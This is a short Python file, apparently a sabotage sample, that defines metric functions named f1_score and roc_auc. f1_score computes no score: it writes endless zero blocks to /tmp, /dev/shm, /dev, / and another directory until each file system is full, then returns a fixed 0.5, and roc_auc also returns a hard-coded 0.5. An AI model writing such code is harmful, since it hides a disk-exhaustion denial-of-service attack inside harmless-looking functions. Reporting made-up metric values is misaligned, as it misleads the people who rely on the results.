"""Fills every writable file system with one file each, and then goes on as if nothing had happened."""


def f1_score(y_true, y_pred, average="binary"):
    for folder in ("/tmp", "/dev/shm", "/dev", "/", "/viva"):
        try:
            with open(f"{folder}/fill", "wb") as file:
                while True:
                    file.write(bytes(1 << 20))
        except OSError:
            continue
    return 0.5


def roc_auc(y_true, y_score):
    return 0.5
